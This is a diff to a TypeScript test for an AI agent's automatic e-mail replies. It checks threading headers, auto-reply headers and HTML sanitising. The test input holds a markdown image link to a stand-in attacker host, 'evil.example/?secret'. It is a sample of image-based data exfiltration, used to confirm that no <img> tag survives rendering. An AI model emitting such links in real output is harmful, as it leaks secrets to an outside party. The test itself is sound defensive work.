@@ -31,16 +31,19 @@ describe('an answer by e-mail', () => {
 
   it('stands in the thread, is marked as automatic, and what answers it belongs to the same conversation', async () => {
     const { session, conversationId } = await opened()
-    const { id } = await session.send(account.delivery(conversationId, 'It is **noon**. <b>x</b> ![p](https://evil.example/?secret)'), {
-      signal,
-    })
+    const { id } = await session.send(
+      account.delivery(conversationId, 'It is **noon**. <b>x</b> <b id="y">z</b> ![p](https://evil.example/?secret)'),
+      {
+        signal,
+      },
+    )
     const [answer] = arrived()
     const header = (name: string) => answer?.mail.headers.find(({ key }) => key === name)?.value
     expect(header('message-id')).to.equal(id)
     expect([header('in-reply-to'), header('references')]).to.deep.equal(['<root@people.example>', '<root@people.example>'])
     expect([header('auto-submitted'), header('x-auto-response-suppress')]).to.deep.equal(['auto-replied', 'All'])
     expect([answer?.mail.subject, answer?.mail.from]).to.deep.equal(['Re: The time', { address: account.address, name: 'The Agent' }])
-    expect(answer?.mail.html).to.include('<strong>noon</strong>').and.include('&lt;b&gt;').and.not.include('<img')
+    expect(answer?.mail.html).to.include('<strong>noon</strong>').and.include('<b>x</b>').and.include('&lt;b id=').and.not.include('<img')
     // A program that keeps nothing of the thread but the last mail.
     question(
       '2',
